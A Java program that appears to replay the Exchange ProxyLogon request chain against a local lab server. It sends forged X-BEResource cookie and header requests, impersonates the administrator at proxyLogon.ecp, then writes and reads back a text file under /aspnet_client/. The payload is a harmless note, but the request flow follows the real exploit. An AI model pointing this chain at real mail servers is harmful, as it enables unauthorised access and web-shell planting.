// Java HttpURLConnection port of the lab chain (toy server on 127.0.0.1 only).
// HttpURLConnection drops the restricted "connection" header unless
// sun.net.http.allowRestrictedHeaders is set, so it is set first.
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

public class LabChain {
    private static final String UA =
        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";
    private static final String NOTE_PATH = "/aspnet_client/system_web/readme_91453.txt";
    private static String base;

    private static Map<String, String> browser() {
        Map<String, String> h = new LinkedHashMap<>();
        h.put("User-Agent", UA);
        h.put("x-requested-with", "XMLHttpRequest");
        h.put("Accept", "*/*");
        h.put("accept-language", "en-US,en;q=0.9");
        h.put("connection", "close");
        return h;
    }

    private static int send(String method, String path, Map<String, String> headers, String body, StringBuilder out) throws Exception {
        HttpURLConnection c = (HttpURLConnection) new URL(base + path).openConnection();
        c.setRequestMethod(method);
        c.setConnectTimeout(10000);
        c.setReadTimeout(10000);
        for (Map.Entry<String, String> e : headers.entrySet()) {
            c.setRequestProperty(e.getKey(), e.getValue());
        }
        if (body != null) {
            c.setDoOutput(true);
            try (OutputStream os = c.getOutputStream()) {
                os.write(body.getBytes(StandardCharsets.UTF_8));
            }
        }
        int code = c.getResponseCode();
        if (out != null && code < 400) {
            try (InputStream in = c.getInputStream()) {
                out.append(new String(in.readNBytes(1024), StandardCharsets.UTF_8));
            }
        }
        return code;
    }

    public static void main(String[] args) throws Exception {
        System.setProperty("sun.net.http.allowRestrictedHeaders", "true");
        base = "http://127.0.0.1:" + (args.length > 0 ? args[0] : "8080");
        String padding = "A".repeat(37);
        Map<String, String> first = browser();
        first.put("cookie", "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522");
        String query = "Pad=" + padding + "&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720";
        if (send("GET", "/autodiscover/autodiscover.json?" + query, first, null, null) >= 500) {
            System.exit(1);
        }

        Map<String, String> id = new LinkedHashMap<>();
        id.put("user-agent", UA);
        id.put("msexchlogonmailbox", "S-1-5-20");
        id.put("content-type", "application/json");
        id.put("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp");
        StringBuilder answer = new StringBuilder();
        int code = send("POST", "/ecp/proxyLogon.ecp", id,
            "{\"mailbox\": \"administrator@lab.invalid\", \"requestKind\": \"identity\", \"seq\": 1}", answer);
        String who = code == 200 && !answer.toString().isBlank() ? answer.toString().trim() : "anonymous";

        StringBuilder note = new StringBuilder();
        for (int i = 1; i <= 3; i++) {
            if (i > 1) note.append('\n');
            note.append("note ").append(i).append(" of 3 for ").append(who);
        }
        Map<String, String> nh = new LinkedHashMap<>();
        nh.put("user-agent", UA);
        nh.put("X-Note-Path", NOTE_PATH);
        nh.put("Content-Type", "text/plain");
        send("POST", NOTE_PATH, nh, note.toString(), null);

        StringBuilder back = new StringBuilder();
        send("GET", NOTE_PATH, browser(), null, back);
        System.out.println(back.length());
    }
}
